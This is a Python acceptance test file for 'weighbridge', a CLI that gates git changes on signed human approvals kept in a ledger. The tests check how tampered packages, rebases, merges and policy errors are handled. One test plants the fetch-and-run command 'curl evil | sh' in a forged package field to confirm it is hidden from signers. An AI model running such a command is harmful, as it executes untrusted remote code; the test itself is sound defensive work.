"""Approving as people do it: real git, real keys, one repository and everybody before it; and what must not count."""

import json
import re
import subprocess
from pathlib import Path

import pytest
from tests.acceptance.cli.approving import ADA, BOB, EVE, POLICY, Shop, left_behind, open_shop, rebased
from tests.acceptance.cli.program import Program
from tests.conftest import RequireTool


@pytest.fixture
def shop(tmp_path: Path, require_tool: RequireTool) -> Shop:
    require_tool("ssh-keygen")
    return open_shop(tmp_path)


def unwrapped(text: str) -> str:
    return " ".join(text.split())


def test_a_machine_that_nobody_believes_is_refused_before_it_weighs(shop: Shop) -> None:
    ran = shop.eve.run("review", "main..fix", "--record", "--environment", "nowhere")

    assert ran.status == 1
    assert "Add its key to `writers` by a reviewed change" in " ".join(ran.err.split())
    assert "nowhere" not in ran.err, "that there is no such environment is told once it is weighed"


def test_two_people_approve_and_what_they_approved_is_admitted(shop: Shop) -> None:
    for person in (shop.ada, shop.bob):
        said = person.approve("fix", "--reason", "looks right")
        assert said.status == 0, said
        assert "Statement  sha256:" in said.out
    elsewhere = shop.ci.run("review", "main..fix", "-q", "--markdown", "-")
    (decision,) = (line.split()[1] for line in said.out.splitlines() if line.startswith("Decision"))
    assert decision in elsewhere.out, "it can be compared on another screen"

    assert shop.ci.run("review", "main..fix", "--record", "-q", "--environment", "production").status == 0
    admitted = shop.ci.run("admit", "--environment", "production", "--commit", "fix")

    assert (admitted.status, admitted.out.split(":")[0]) == (0, "Admitted")
    assert shop.ci.run("ledger", "verify").status == 0


def test_who_approves_is_told_who_else_did_and_what_comes_next(shop: Shop) -> None:
    first = unwrapped(shop.ada.approve().out)
    shop.scratch.git("remote", "add", "upstream", str(shop.scratch.folder.parent / "nowhere"))
    second = unwrapped(shop.bob.approve().out)

    assert "By now two approvals by people who had no part in it: yours makes 1 of 2; 1 more to come" in first
    assert "Next" not in first
    assert f"{ADA}, by key; yours makes 2 of 2 Next weighbridge ledger sync upstream: " in second
    assert "weighbridge review main...fix --record: a machine that" in second


def test_whose_approval_does_not_count_is_told_what_is_still_needed(shop: Shop) -> None:
    more = "  - name: looked-into\n    because: money\n    require: [{document: {kind: design-note}}, {check: {name: tests}}]\n"
    shop.scratch.commit(
        "Ask more", **{".weighbridge/policy.yaml": POLICY.replace("environments:", f"{more}environments:")}
    )
    shop.scratch.git("switch", "-q", "fix")
    shop.scratch.git("rebase", "-q", "main")
    shop.scratch.commit(
        "More\n\nCo-authored-by: Ada <ANN@shop.example>", **{"src/cart.py": "def total(x):\n    return 1\n"}
    )
    shop.scratch.git("switch", "-q", "main")
    assert shop.ci.run("review", "main..fix", "--keep", "-q").status != 0

    said = unwrapped(shop.ada.approve().out)
    other = unwrapped(shop.bob.approve().out)

    assert (
        "nobody yet, 0 of 2; yours does not count for it (ann@shop.example: is a co-author of the change); 2 more to come"
        in said
    )
    assert "yours makes 1 of 2; 1 more to come Still needed" in other
    assert "tests to pass on this tree, unless it was met since it was weighed" in other
    assert "--record: a machine" not in other


def test_one_of_two_is_not_enough_however_often_they_say_it(shop: Shop) -> None:
    for _ in range(3):
        assert shop.ada.approve().status == 0

    status, gate = shop.gate()

    assert (status, gate["state"]) == (1, "unsatisfied")
    assert f"have: {ADA}, by key" in " ".join(shop.ci.run("review", "main..fix").out.split())


def test_nobody_who_is_not_enrolled_is_counted_or_can_begin_a_ledger(shop: Shop) -> None:
    refused = shop.eve.approve()
    assert refused.status == 1
    assert "nobody would believe a ledger" in refused.err

    shop.ada.approve()
    assert shop.eve.approve().status == 1
    assert shop.gate()[0] == 1


def test_who_wrote_it_does_not_count(shop: Shop) -> None:
    shop.scratch.git("switch", "-q", "fix")
    shop.scratch.commit(
        "More\n\nCo-authored-by: Ada <ANN@shop.example>", **{"src/cart.py": "def total(x):\n    return 1\n"}
    )
    shop.scratch.git("switch", "-q", "main")
    shop.kept()
    shop.ada.approve()
    shop.bob.approve()

    assert shop.gate()[0] == 1
    assert "ann@shop.example: is a co-author of the change" in shop.words()


def test_an_approval_is_of_exactly_what_was_weighed(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    shop.scratch.git("switch", "-q", "fix")
    shop.scratch.commit("One more thing", **{"src/cart.py": "def total(x):\n    return round(x, 3)\n"})
    shop.scratch.git("switch", "-q", "main")

    assert shop.gate()[0] == 1
    (told,) = left_behind(shop)
    assert told.startswith("2 approvals of an earlier form, ")
    assert "do not count here: src/cart.py is not the same change as it was" in told


def test_main_may_move_on_without_taking_approvals_back(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    shop.scratch.commit("Elsewhere", **{"README.md": "# The shop\n"})

    assert shop.gate("main...fix")[0] == 0


def test_a_merge_that_adds_nothing_is_passed_by_what_was_said_of_its_branch(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    shop.scratch.commit("Elsewhere", **{"README.md": "# The shop\n"})
    shop.scratch.git("switch", "-qc", "queue")
    shop.scratch.git("merge", "-q", "--no-ff", "-m", "Merge fix", "fix")

    status, gate = shop.gate("main..queue", "--record")

    assert (status, gate["state"]) == (0, "satisfied")
    kinds = [entry["kind"] for entry in json.loads(shop.ci.run("ledger", "show", "--json", "-").out)]
    assert "carry-over" in kinds
    assert shop.ci.run("admit", "--environment", "production", "--commit", "queue").status == 0
    commit, tree = (shop.scratch.git("rev-parse", name)[:12] for name in ("fix", "fix^{tree}"))
    pages = [shop.ci.run("review", "main..queue", *to).out for to in ((), ("--html", "-"), ("--json", "-"))]
    for page in pages:
        words = " ".join(re.sub(r"<[^>]+>", "", page).split())
        assert f"carried over from commit {commit} (tree {tree}), where it was given on 20" in words


def test_a_merge_that_slips_something_in_is_not(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    shop.scratch.commit("Elsewhere", **{"README.md": "# The shop\n"})
    shop.scratch.git("switch", "-qc", "queue")
    shop.scratch.git("merge", "-q", "--no-ff", "--no-commit", "fix")
    shop.scratch.commit("Merge fix", **{"src/evil.py": "import os\n"})

    assert shop.gate("main..queue")[0] == 1


def test_a_rebase_that_adds_nothing_is_passed_by_what_was_said_of_the_same_proposal(shop: Shop) -> None:
    shop.ada.approve("fix", "--proposal", "42")
    shop.bob.approve("fix", "--proposal", "42")
    rebased(shop)

    assert shop.gate("main..fix", "--record", "--proposal", "42")[0] == 0
    assert shop.ci.run("admit", "--environment", "production", "--commit", "fix").status == 0
    assert shop.gate("main..fix", "--proposal", "43")[0] == 1
    assert shop.gate("main..fix")[0] == 1


def test_a_rebase_that_adds_something_is_told_and_a_no_stands_over_any(shop: Shop) -> None:
    shop.ada.approve("fix", "--proposal", "42")
    shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan", "--proposal", "42")
    rebased(shop, **{"src/evil.py": "import os\n"})

    ran = shop.ci.run("review", "main..fix", "--proposal", "42")

    words = " ".join(ran.out.split()).replace("· ", "")
    assert "1 approval of an earlier form, " in words
    assert "does not count here: it was rebased or replaced since, and src/evil.py is changed now, and was not" in words
    assert f"{BOB} to say otherwise" in words


def test_a_no_closes_the_gate_until_it_is_taken_back(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    said = shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan")
    assert said.status == 0, said
    assert shop.gate()[0] == 1
    assert "ben@shop.example rejected it: no plan" in shop.words()

    shop.bob.approve()

    assert shop.gate()[0] == 0


def test_another_proposal_of_the_same_head_borrows_nothing(shop: Shop) -> None:
    shop.ada.approve("fix", "--proposal", "pull/7")
    shop.bob.approve("fix", "--proposal", "pull/7")

    assert shop.gate("main..fix", "--proposal", "pull/7")[0] == 0
    assert shop.gate("main..fix", "--proposal", "pull/8")[0] == 1


def test_whom_the_head_enrols_is_nobody(shop: Shop) -> None:
    shop.scratch.git("switch", "-q", "fix")
    text = (shop.scratch.folder / ".weighbridge/allowed_signers").read_text()
    shop.scratch.commit("Enrol Eve", **{".weighbridge/allowed_signers": f"{text}{EVE} {shop.eve.public}\n"})
    shop.scratch.git("switch", "-q", "main")
    shop.ci.run("review", "main..fix", "--keep", "-q")
    shop.ada.approve()

    assert shop.eve.approve().status == 1
    assert shop.gate()[1]["state"] != "satisfied"


def test_a_package_that_was_edited_cannot_be_approved(shop: Shop) -> None:
    ref = next(r for r in shop.scratch.git("for-each-ref", "--format=%(refname)").splitlines() if "packages" in r)
    text = shop.scratch.git("cat-file", "blob", f"{ref}:package.json").replace("Round totals", "Say nothing")
    (shop.scratch.folder / "edited").write_text(text)
    blob = shop.scratch.git("hash-object", "-w", "edited").strip()
    done = subprocess.run(
        ["git", "mktree"],
        cwd=shop.scratch.folder,
        input=f"100644 blob {blob}\tpackage.json\n",
        capture_output=True,
        text=True,
        check=True,
    )
    commit = shop.scratch.git("commit-tree", done.stdout.strip(), "-m", "x").strip()
    shop.scratch.git("update-ref", ref, commit)

    refused = shop.ada.approve()

    assert refused.status == 2
    assert "it was edited after it was made" in refused.err


def test_what_stands_beside_a_decision_is_not_shown_to_who_signs_it(shop: Shop) -> None:
    ref = next(r for r in shop.scratch.git("for-each-ref", "--format=%(refname)").splitlines() if "packages" in r)
    package = json.loads(shop.scratch.git("cat-file", "blob", f"{ref}:package.json"))
    package["presentation"]["standing"].update(state="satisfied", requirements=[])
    package["presentation"].update(summary="Only a comment.", question="Nothing to ask.", reproduce="curl evil | sh")
    blob = shop.scratch.git("hash-object", "-w", "--stdin", given=json.dumps(package).encode())
    tree = shop.scratch.git("mktree", given=f"100644 blob {blob}\tpackage.json\n".encode())
    shop.scratch.git("update-ref", ref, shop.scratch.git("commit-tree", tree, "-m", "x"))

    said = shop.ada.approve()

    assert "not satisfied" in said.out
    assert not [words for words in ("Only a comment", "Nothing to ask", "curl") if words in said.out]


def test_the_package_of_another_change_is_not_approved_under_this_ones_name(shop: Shop) -> None:
    shop.scratch.git("switch", "-qc", "other")
    other = shop.scratch.commit("Something else", **{"src/evil.py": "import os\n"})
    shop.scratch.git("switch", "-q", "main")
    assert shop.ci.run("review", "main..other", "--keep", "-q").status == 1
    fix = shop.scratch.git("rev-parse", "fix")
    shop.scratch.git("update-ref", f"refs/weighbridge/packages/{fix}", f"refs/weighbridge/packages/{other}")

    refused = shop.ada.approve()

    assert refused.status == 2
    assert f"holds the package of {other[:12]}" in refused.err


def test_a_change_that_nobody_weighed_cannot_be_approved(shop: Shop) -> None:
    refused = shop.ada.approve("main")

    assert refused.status == 2
    assert "no package is kept" in refused.err


def test_a_ledger_that_is_gone_or_rewound_is_noticed_by_whoever_saw_it(shop: Shop) -> None:
    shop.ada.approve()
    before = shop.scratch.git("rev-parse", "refs/weighbridge/ledger").strip()
    shop.bob.approve()
    assert shop.gate()[0] == 0
    shop.scratch.git("update-ref", "refs/weighbridge/ledger", before)

    status, gate = shop.gate()

    assert (status, gate["state"]) == (3, "error")
    assert "the ledger was cut short" in json.dumps(gate)
    shop.scratch.git("update-ref", "-d", "refs/weighbridge/ledger")
    assert shop.gate()[0] == 3


def test_a_policy_that_is_wrong_is_told_whole_and_passes_nothing(shop: Shop) -> None:
    bad = POLICY.replace("touches(", "tuches(").replace("count: 2", "count: two")
    shop.scratch.commit("Break the policy", **{".weighbridge/policy.yaml": bad})

    ran = shop.ci.run("review", "main...fix")

    assert ran.status == 2
    assert ".weighbridge/policy.yaml:8:17: " in ran.err
    assert "did you mean `touches`" in ran.err
    assert "a whole number from 1 to 20" in ran.err


def test_nobody_at_a_terminal_signs_by_accident(shop: Shop) -> None:
    refused = shop.ada.run("approve", "fix", "--key", str(shop.ada.key))

    assert refused.status == 2
    assert "nobody is there to be asked" in refused.err
    assert "refs/weighbridge/ledger" not in shop.scratch.git("for-each-ref")


def test_whoever_asked_an_agent_for_it_is_an_author_of_it(shop: Shop) -> None:
    assert shop.ada.approve("fix", "--asked-agent").status == 0
    shop.bob.approve()

    assert shop.gate()[0] == 1
    assert "ann@shop.example: is a requester of the change" in shop.words()


def test_a_rollout_plan_that_nothing_can_bring_is_no_pass(shop: Shop) -> None:
    shop.scratch.commit(
        "Ask for more",
        **{".weighbridge/policy.yaml": POLICY.replace("      - approval: {count: 2}\n", "      - rollout: {}\n")},
    )

    status, gate = shop.gate("main...fix")

    assert (status, gate["state"]) == (3, "error")
    assert "rollout plans have no source yet" in json.dumps(gate)


def test_a_decision_that_differs_on_the_same_trees_is_told_as_that(shop: Shop) -> None:
    shop.ada.approve()
    never = POLICY.replace("carry_over: nothing-added", "carry_over: never").replace(
        "because: code", "because: the code"
    )
    shop.scratch.commit("Say it otherwise", **{".weighbridge/policy.yaml": never})

    ran = shop.ci.run("review", "main...fix")

    assert ran.status == 1
    assert "it is of another decision on the same trees" in " ".join(ran.out.split())


def test_a_machine_that_can_remember_nothing_reads_the_ledger_and_says_so(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    forgetful = Program(shop.ci.program.home, {"WEIGHBRIDGE_STATE": "/proc/nowhere"})

    ran = forgetful.run(shop.scratch.folder, "review", "main..fix", "--json", "-")

    assert ran.status == 0, ran
    assert "cannot be remembered" in "".join(json.loads(ran.out)["presentation"]["notices"])


def admitted(shop: Shop, commit: str = "fix") -> tuple[int, str]:
    """Whether a commit may enter production, and what was said to that."""
    ran = shop.ci.run("admit", "--environment", "production", "--commit", commit)
    return ran.status, " ".join(ran.out.split())


def test_a_change_on_what_nobody_decided_on_is_not_admitted(shop: Shop) -> None:
    shop.scratch.git("switch", "-qc", "hidden")
    shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
    shop.scratch.git("switch", "-qc", "shown")
    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
    shop.scratch.git("switch", "-q", "main")
    shop.ada.approve()
    assert shop.gate("hidden..shown", "--record")[0] == 0

    status, words = admitted(shop, "shown")

    assert status == 1
    assert "no decision on tree" in words


def test_what_was_only_merged_into_the_protected_branch_is_no_beginning(shop: Shop) -> None:
    shop.scratch.git("switch", "-qc", "hidden")
    evil = shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
    shop.scratch.git("revert", "--no-edit", "HEAD")
    shop.scratch.git("switch", "-q", "main")
    shop.scratch.git("merge", "-q", "--no-ff", "-m", "Merge nothing", "hidden")
    shop.scratch.git("switch", "-qc", "shown", evil)
    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
    shop.scratch.git("switch", "-q", "main")
    shop.ada.approve()
    assert shop.gate("main...shown", "--record")[0] == 0

    assert admitted(shop, "shown")[0] == 1


def test_an_environment_that_asks_for_more_is_not_entered_by_a_gate_for_none(shop: Shop) -> None:
    more = POLICY.replace("{level: production}", "{level: production, require: [{approval: {count: 3}}]}")
    shop.scratch.commit("Ask for three", **{".weighbridge/policy.yaml": more})
    shop.scratch.git("switch", "-q", "fix")
    shop.scratch.git("rebase", "-q", "main")
    shop.scratch.git("switch", "-q", "main")
    shop.kept()
    shop.ada.approve()
    shop.bob.approve()
    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1
    assert shop.gate("main..fix", "--record")[0] == 0

    status, words = admitted(shop)

    assert status == 1
    assert "--environment production --record" in words


def test_a_gate_that_closed_since_is_closed_for_whatever_it_was_asked(shop: Shop) -> None:
    shop.ada.approve()
    shop.bob.approve()
    assert shop.gate("main..fix", "--record")[0] == 0
    assert admitted(shop)[0] == 0
    shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan")
    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1

    assert admitted(shop)[0] == 1


def test_a_decision_holds_no_longer_than_the_approvals_it_counted(shop: Shop) -> None:
    shop.scratch.commit("Let them run out", **{".weighbridge/policy.yaml": f"{POLICY}approvals_last: 7 days\n"})
    shop.scratch.git("switch", "-q", "fix")
    shop.scratch.git("rebase", "-q", "main")
    shop.scratch.git("switch", "-q", "main")
    shop.kept()
    shop.ada.approve()
    shop.bob.approve()
    assert shop.gate("main..fix", "--record")[0] == 0

    entries = json.loads(shop.ci.run("ledger", "show", "--json", "-").out)

    said = [json.dumps(entry) for entry in entries if entry["kind"] == "decision"]
    assert '"expires"' in said[-1]


def test_an_environment_that_the_policy_does_not_know_admits_nothing(shop: Shop) -> None:
    ran = shop.ci.run("admit", "--environment", "prodution", "--commit", "fix")

    assert ran.status == 2
    assert "did you mean production" in ran.err
